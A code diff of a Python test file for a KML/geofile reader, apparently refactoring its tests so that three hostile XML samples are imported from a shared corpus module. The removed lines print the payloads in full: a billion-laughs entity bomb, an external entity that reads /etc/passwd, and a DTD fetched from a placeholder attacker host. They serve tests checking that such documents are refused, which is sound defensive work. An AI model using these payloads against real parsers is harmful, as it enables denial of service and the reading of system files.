@@ -6,6 +6,7 @@ from __future__ import annotations
 import json
 import os
 import struct
+import sys
 import time
 import zipfile
 from pathlib import Path
@@ -20,6 +21,9 @@ from briefing_app.geofiles import (
     read_geofile,
 )
 from briefing_app.geofiles import limits as limits_module
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "hostile"))
+from corpus import BILLION_LAUGHS, EXTERNAL_DTD, EXTERNAL_ENTITY
 
 CORPUS = Path(__file__).resolve().parent.parent / "fixtures" / "corpus"
 SECONDS = 10.0
@@ -119,32 +123,7 @@ def test_unknown_geometry_type(tmp_path):
             'unknown geometry type "Circle"')
 
 
-BILLION_LAUGHS = """<?xml version="1.0"?>
-<!DOCTYPE kml [
- <!ENTITY a "lollollollollollollollollollol">
- <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
- <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
- <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
- <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
- <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
- <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
- <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
- <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
-]>
-<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&i;</name>
-<Point><coordinates>1,2</coordinates></Point></Placemark></kml>"""
-
-EXTERNAL_ENTITY = """<?xml version="1.0"?>
-<!DOCTYPE kml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
-<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&secret;</name>
-<Point><coordinates>1,2</coordinates></Point></Placemark></kml>"""
-
-EXTERNAL_DTD = """<?xml version="1.0"?>
-<!DOCTYPE kml SYSTEM "http://attacker.invalid/malicious.dtd">
-<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>x</name>
-<Point><coordinates>1,2</coordinates></Point></Placemark></kml>"""
-
-
+# The XML attacks are those of the cross-reader corpus (tests/hostile/corpus.py).
 @pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD],
                          ids=["billion-laughs", "external-entity", "external-dtd"])
 def test_kml_doctype_is_refused(tmp_path, text):
